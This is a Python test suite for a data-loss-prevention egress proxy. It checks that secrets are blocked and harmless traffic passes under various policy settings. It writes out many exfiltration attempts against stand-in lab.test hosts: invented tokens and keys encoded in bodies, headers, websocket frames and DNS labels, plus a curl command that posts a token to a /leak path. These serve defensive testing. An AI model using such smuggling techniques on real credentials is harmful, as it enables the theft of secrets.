# SPDX-License-Identifier: Apache-2.0
"""What looks like a secret (dlp: block) does not leave, in whatever place and encoding; what does not look like one passes. Where the policy
says alert, it passes and is told; where it says off, or excepts the format, it passes."""
import base64
import gzip
import json
import os
import subprocess
import tempfile
import unittest
import urllib.parse
import zlib

import lab
import pages
import support
from support import policy, wait_until

FINDING = 2004
GITHUB = b"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"  # an invented one whose checksum is right
ACCESS = b"AKIAIOSFODNN7QXM3PLZ"
PEM = b"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----\n"
JWT = b"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
HELPERS = """import json
def post(host, path, body, *fields):
    return fetch(host, path, method='POST', body=body, fields=(f'Content-Length: {len(body)}', *fields))[0]
def chunked(host, path, pieces, *fields):
    s = tls(host)
    s.sendall(request('POST', path, host, 'Transfer-Encoding: chunked', *fields))
    try:
        for p in pieces:
            s.sendall(b'%x\\r\\n' % len(p) + p + b'\\r\\n')
        s.sendall(b'0\\r\\n\\r\\n')
    except OSError:
        pass
    return Reader(s).response()[0]
def frames(host, parts, opcode=1):
    s = tls(host)
    s.sendall(request('GET', '/ws', host, 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13',
                      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='))
    r = Reader(s)
    if b'101' not in str(r.head()[0]).encode():
        return 'refused'
    for i, p in enumerate(parts):
        head = bytes([(0x80 if i == len(parts) - 1 else 0) | (opcode if i == 0 else 0)])
        head += bytes([0x80 | len(p)]) if len(p) < 126 else b'\\xfe' + len(p).to_bytes(2, 'big')
        s.sendall(head + bytes(4) + p)
    back = 0
    try:
        while back < sum(len(p) for p in parts):  # until all of it has come back
            opcode, n = r.take(2)
            n = n if n < 126 else int.from_bytes(r.take(2), 'big')
            data = r.take(n)
            if opcode & 15 == 8:
                return '403' if data[:2] == (1008).to_bytes(2, 'big') else f'closed: {data!r}'
            back += n
        return '200'
    except Exception as e:
        return f'ended: {e!r}'
"""
ENCODINGS = {
    "plain": lambda b: b,
    "base64": base64.b64encode,
    "base64url": base64.urlsafe_b64encode,
    "base64 lines": base64.encodebytes,
    "hex": lambda b: b.hex().encode(),
    "hex pairs": lambda b: b.hex("-").encode(),
    "percent": lambda b: "".join(f"%{c:02x}" for c in b).encode(),
    "json": lambda b: "".join(f"\\u{c:04x}" for c in b).encode(),
    "gzip": gzip.compress,
    "zlib": zlib.compress,
}
BINARY = ("gzip", "zlib")


class Secrets(support.Case):
    def box(self, *rules, more="dlp: block\n"):
        box = support.Sandbox(policy(*(rules or ("https://www.lab.test", "https://api.lab.test", "https://*.wild.lab.test")), more=more))
        self.addCleanup(box.close)
        return box

    def results(self, box, cases):
        """Runs expressions inside; returns what each gave as a text."""
        code = HELPERS + "results = {}\n" + "".join(
            f"try:\n results[{name!r}] = str({code})\nexcept Exception as e:\n results[{name!r}] = 'E:' + repr(e)\n" for name, code in cases.items())
        return json.loads(box.py(code + "print(json.dumps(results))", timeout=300).out.splitlines()[-1])

    def findings(self, box):
        return [e for e in box.events(FINDING) if e["finding_info"]["types"] == ["secret"]]

    def all_are(self, box, cases, want):
        got = self.results(box, cases)
        self.assertEqual({n: v for n, v in got.items() if v != want}, {})

    def seen_paths(self, begin):
        return [r["path"] for r in self.seen("http") if r["path"].startswith(begin)]


class Blocks(Secrets):
    def test_bodies_in_every_encoding(self):
        box, cases = self.box(), {}
        for name, encode in ENCODINGS.items():
            for secret in (GITHUB, PEM):
                body = b"data=" + encode(secret) + b"&b=1" if name not in BINARY else encode(secret)
                cases[f"{name} {secret[:4]!r}"] = f"post('www.lab.test', '/leak', {body!r})"
                cases[f"{name} {secret[:4]!r} coded"] = f"post('www.lab.test', '/leak', {gzip.compress(body)!r}, 'Content-Encoding: gzip')"
                cases[f"{name} {secret[:4]!r} twice"] = f"post('www.lab.test', '/leak', {base64.b64encode(body)!r})"
        self.all_are(box, cases, "403")
        self.assertEqual(self.seen_paths("/leak"), [])
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == len(cases), 5 * support.SLOW), (len(self.findings(box)), len(cases)))
        log = json.dumps(box.events())
        for secret in (GITHUB, PEM[30:60]):
            self.assertNotIn(secret.decode(), log)
        self.assertEqual({e["severity_id"] for e in self.findings(box)}, {4})
        self.assertIn("a GitHub token (github-token): in the request's body, in base64 in base64", log)

    def test_chunks(self):
        """The last piece of a secret never leaves, however the body is cut."""
        box, cases = self.box(), {}
        for size in (1, 7, 4096):
            for name in ("plain", "base64", "hex"):
                body = b"x" * 5000 + b" " + ENCODINGS[name](GITHUB) + b" " + b"y" * 5000
                cases[f"{size} {name}"] = f"chunked('www.lab.test', '/cut', {[body[i:i + size] for i in range(0, len(body), size)]!r})"
        self.all_are(box, cases, "403")
        self.assertNotIn(GITHUB.decode(), json.dumps(self.seen("http")))

    def test_heads(self):
        box, cases = self.box(), {}
        for name, encode in ENCODINGS.items():
            if name in BINARY or name == "base64 lines":
                continue
            text = encode(GITHUB).decode()
            cases[name + " query"] = f"fetch('www.lab.test', '/head?a=1&b=' + {urllib.parse.quote(text, safe='%/+')!r})[0]"
            if name != "json":  # no path has a backslash
                cases[name + " path"] = f"fetch('www.lab.test', '/head/' + {urllib.parse.quote(text.replace('/', '_'), safe='')!r} + '/x')[0]"
            cases[name + " field"] = f"fetch('www.lab.test', '/head', fields=('X-Trace: ' + {text!r},))[0]"
            cases[name + " cookie"] = f"fetch('www.lab.test', '/head', fields=('Cookie: a=b; c=' + {text!r},))[0]"
            cases[name + " agent"] = f"fetch('www.lab.test', '/head', fields=('User-Agent: x/' + {text!r},))[0]"
        cases["authorization"] = f"fetch('www.lab.test', '/head', fields=('Authorization: Bearer ' + {GITHUB.decode()!r},))[0]"
        cases["basic"] = f"fetch('www.lab.test', '/head', fields=('Authorization: Basic ' + {base64.b64encode(b'x:' + GITHUB).decode()!r},))[0]"
        cases["field and value"] = "fetch('www.lab.test', '/head', fields=('X-Secret-Key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYKq3T9vLwZe',))[0]"
        cases["host in hex"] = f"fetch({ACCESS.hex()!r} + '.wild.lab.test', '/head')[0]"
        cases["host in labels"] = "fetch('4a6f686e446f65.53656372657431aa.wild.lab.test', '/head')[0]"
        cases["path of random letters"] = "fetch('www.lab.test', '/head/x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE/status')[0]"
        cases["query of random letters"] = "fetch('www.lab.test', '/head?d=' + 'x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE' * 3)[0]"
        cases["jwt in the query"] = f"fetch('www.lab.test', '/head?t=' + {JWT.decode()!r})[0]"
        self.all_are(box, cases, "403")
        self.assertEqual(self.seen_paths("/head"), [])
        self.assertEqual(len([e for e in box.events(4002) if e["status_code"] == "secret"]), len(cases))

    def test_websockets(self):
        box, cases = self.box(), {}
        for name, encode in ENCODINGS.items():
            text = b"a " + encode(GITHUB) + b" b"
            opcode = 2 if name in BINARY else 1
            cases[name] = f"frames('www.lab.test', {[text]!r}, {opcode})"
            if name not in BINARY:
                cases[name + " in fragments"] = f"frames('www.lab.test', {[text[:20], text[20:33], text[33:]]!r})"
        self.all_are(box, cases, "403")
        self.assertEqual(len(self.findings(box)), len(cases))

    def test_the_answer_says_what_to_do(self):
        box = self.box()
        r = json.loads(box.sh(f"curl -sS -d 'k={GITHUB.decode()}' https://www.lab.test/leak").out)
        self.assertEqual(r["error"]["code"], "secret")
        self.assertIn("a GitHub token (github-token): in the request's body", r["detail"])
        self.assertIn("Leave the secret", r["advice"])
        self.assertNotIn(GITHUB.decode(), json.dumps(r))

    def test_what_is_no_secret_passes(self):
        box = self.box()
        bodies = [b"", b"hello", b"ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", b"{\"sha256\": \"" + b"0f3a9c7e" * 8 + b"\"}", bytes(range(256)) * 300,
                  base64.b64encode(bytes(range(256)) * 100), gzip.compress(b"words " * 10000), b"%41%42", b"\\u0041 \\n \\\" \xe2\x80\x8b",
                  b"-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", b"550e8400-e29b-41d4-a716-446655440000"]
        cases = {f"body {i}": f"post('www.lab.test', '/fine', {b!r})" for i, b in enumerate(bodies)}
        for i, path in enumerate(["/a/b?c=d", "/v2/library/x/blobs/sha256:" + "0f3a9c7e" * 8, "/resources/550e8400-e29b-41d4-a716-446655440000/details",
                                  "/search?q=how+to+fix+%22permission+denied%22+error", "/x?content=%E3%83%91%E3%82%B9%E3%83%AF%E3%83%BC%E3%83%89",
                                  "/x?X-Amz-Signature=" + "0f3a9c7e" * 8 + "&X-Amz-Date=20250101T000000Z"]):
            cases[f"path {i}"] = f"fetch('www.lab.test', {path!r})[0]"
        cases["session"] = f"fetch('www.lab.test', '/fine', fields=('Authorization: Bearer ' + {JWT.decode()!r}, 'Cookie: s=' + {JWT.decode()!r}))[0]"
        cases["frames"] = "frames('www.lab.test', [b'hello'])"
        self.all_are(box, cases, "200")
        self.assertEqual(self.findings(box), [])

    def test_a_coding_that_is_not_read(self):
        """An unknown one, one inside of another, and bytes in which the upstream's decoder may find more than vethguard's: a zstd frame
        with a window of 128 MiB."""
        window = b"\x28\xb5\x2f\xfd\x00\x88\x03\x00\x00"
        bodies = {"compress": b"abc", "gzip, br": b"abc", "gzip": b"no gzip", "br": b"\xff" * 40, "zstd": window}
        self.all_are(self.box(), {name: f"post('www.lab.test', '/coded', {body!r}, 'Content-Encoding: {name}')" for name, body in bodies.items()}, "403")


class Rules(Secrets):
    def test_alert_tells_and_passes(self):
        box = self.box(more="dlp: alert\n")
        self.all_are(box, {"body": f"post('www.lab.test', '/told', {GITHUB!r})", "head": f"fetch('www.lab.test', '/told?k={ACCESS.decode()}')[0]"}, "200")
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == 2, 5 * support.SLOW))
        self.assertEqual(len(self.seen_paths("/told")), 2)

    def test_observe_tells_and_passes(self):
        box = self.box(more="dlp: block\nmode: observe\n")
        self.all_are(box, {"body": f"post('www.lab.test', '/told', {GITHUB!r})"}, "200")
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == 1, 5 * support.SLOW))

    def test_a_rule_says_something_else(self):
        box = self.box("{to: 'https://www.lab.test', dlp: 'off'}", "{to: 'https://api.lab.test', dlp: {mode: block, except: [github-token]}}")
        self.all_are(box, {"off": f"post('www.lab.test', '/r', {GITHUB!r})", "excepted": f"post('api.lab.test', '/r', {GITHUB!r})"}, "200")
        self.all_are(box, {"another format": f"post('api.lab.test', '/r', {GITHUB + b' ' + ACCESS!r})"}, "403")
        self.assertEqual(len(self.findings(box)), 1)

    def test_without_dlp_all_passes(self):
        box = self.box(more="")
        self.all_are(box, {"body": f"post('www.lab.test', '/r', {GITHUB!r})"}, "200")
        self.assertEqual(self.findings(box), [])


class Page(unittest.TestCase):
    maxDiff = None

    def test_the_page_shows_what_the_commands_print(self):
        path = os.path.join(lab.ROOT, "docs", "policy.md")
        text = pages.read(path)
        begin = text[:text.index("\n### Secrets\n")].count("\n")
        end = text[:text.index("\n### ", text.index("\n### Secrets\n") + 1)].count("\n")
        found = [b for b in pages.blocks(path) if begin < b.number < end and b.runs()]
        shown = [c[1] for b in found for c in b.commands]
        self.assertEqual(len(shown), 5)
        with tempfile.TemporaryDirectory() as directory:
            r = subprocess.run(["bash"], input=pages.script(found, "=="), cwd=directory, text=True, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, env={**os.environ, "PATH": lab.BIN + ":" + os.environ["PATH"]})
        came = pages.outputs(r.stdout, "==")
        for i, lines in enumerate(shown):
            self.assertTrue(pages.agree(lines, came[i][0]), pages.difference(lines, came[i][0]))


if __name__ == "__main__":
    unittest.main()
